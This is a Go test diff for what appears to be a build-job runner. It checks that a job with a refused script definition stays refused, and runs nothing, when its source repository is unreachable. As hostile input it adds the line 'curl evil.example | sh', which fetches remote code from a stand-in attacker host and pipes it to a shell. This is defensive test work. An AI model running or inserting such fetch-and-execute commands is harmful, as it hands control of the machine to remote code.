@@ -917,3 +917,27 @@ func TestConcurrentJobs(t *testing.T) {
 		t.Errorf("high-water mark: %+v, %v", hw, err)
 	}
 }
+
+// A job whose definition is already refused stays refused (a build failure,
+// not retried) even when its source repository cannot be reached.
+func TestDefinitionRefusalStandsWhenSourceUnreachable(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	e.entry.Repo = "file://" + filepath.Join(e.root, "no-such-repository")
+	e.write()
+	s := e.defaultScript()
+	j := e.newJob(e.payload(902, e.head, withScript(append(s, "curl evil.example | sh")...)))
+	r := j.runAll()
+	if r.prepare != 1 {
+		t.Fatalf("prepare %d, want 1 (refused)\n%s", r.prepare, j.log.String())
+	}
+	mustContain(t, j.log.String(), "Failed check: script", "the source was not verified")
+	j.assertNothingRan()
+
+	// With a matching definition, the unreachable source means writ cannot decide.
+	j = e.newJob(e.payload(903, e.head))
+	if r := j.runAll(); r.prepare != 2 {
+		t.Fatalf("prepare %d, want 2 (system failure)\n%s", r.prepare, j.log.String())
+	}
+	j.assertNothingRan()
+}
